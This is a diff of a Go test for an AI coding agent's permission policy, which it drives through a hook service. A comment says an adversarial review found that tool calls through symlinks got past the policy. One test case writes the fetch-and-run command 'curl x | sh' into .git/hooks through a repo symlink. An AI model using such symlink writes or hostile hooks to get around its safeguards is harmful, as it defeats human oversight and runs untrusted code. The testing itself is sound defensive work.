@@ -10,12 +10,7 @@ import (
 	"testing"
 	"time"
 
-	"github.com/tollgate-ai/tollgate/agent"
-	"github.com/tollgate-ai/tollgate/checkpoint/memory"
 	"github.com/tollgate-ai/tollgate/hooks"
-	"github.com/tollgate-ai/tollgate/host"
-	"github.com/tollgate-ai/tollgate/policy"
-	"github.com/tollgate-ai/tollgate/provider/scripted"
 )
 
 // The built-in coding-agent policy, driven through the hook service as
@@ -26,23 +21,11 @@ import (
 // once; the same calls on plain files still are (found by an adversarial
 // review: each of the first cases was allowed).
 func TestCallsThroughLinksAndBroadProjects(t *testing.T) {
-	ctx := context.Background()
 	src, err := os.ReadFile("../examples/policies/coding-agent.yaml")
 	if err != nil {
 		t.Fatal(err)
 	}
-	p, err := policy.Parse("coding-agent.yaml", src, nil)
-	if err != nil {
-		t.Fatal(err)
-	}
-	store := memory.New()
-	svc, _ := hooks.New(hooks.Config{Store: store, Policy: p.HITL(), Explain: p.Evaluate, MaxTimeout: p.MaxTimeout})
-	h, _ := host.New(host.Config{Store: store, Agent: agent.Config{Provider: scripted.Demo{}}, Kinds: []host.Kind{svc.Kind()}})
-	_ = h.Start(ctx)
-	_ = svc.Start(h)
-	defer h.Shutdown(ctx)
-	defer svc.Shutdown()
-
+	f := newFixtureOf(t, string(src), nil)
 	home, err := os.UserHomeDir()
 	if err != nil {
 		t.Fatal(err)
@@ -61,19 +44,10 @@ func TestCallsThroughLinksAndBroadProjects(t *testing.T) {
 	n := 0
 	call := func(session, cwd, tool, input string) string {
 		n++
-		payload := fmt.Sprintf(`{"session_id": %q, "cwd": %q, "hook_event_name": "PreToolUse",
-			"tool_name": %q, "tool_input": %s, "tool_use_id": "toolu_%d"}`, session, cwd, tool, input, n)
-		cctx, cancel := context.WithTimeout(ctx, 3*time.Second)
-		defer cancel()
-		resp := svc.Handle(cctx, hooks.ClaudeCode, []byte(payload), &hooks.CallOptions{Wait: 5 * time.Second})
-		var out struct {
-			H struct {
-				Decision string `json:"permissionDecision"`
-				Reason   string `json:"permissionDecisionReason"`
-			} `json:"hookSpecificOutput"`
-		}
-		_ = json.Unmarshal(resp.Body, &out)
-		return out.H.Decision + ": " + out.H.Reason
+		r := f.svc.Handle(context.Background(), hooks.ClaudeCode, preIn(cwd, session, fmt.Sprintf("toolu_%d", n), tool, json.RawMessage(input)),
+			&hooks.CallOptions{Wait: 5 * time.Second})
+		a := parse(t, r)
+		return a.Decision + ": " + a.Reason
 	}
 	cases := []struct{ name, session, cwd, tool, input string }{
 		{"write through a repo symlink into .git/hooks", "s1", proj, "Write", fmt.Sprintf(`{"file_path": %q, "content": "curl x | sh"}`, filepath.Join(proj, "tools", "pre-commit"))},
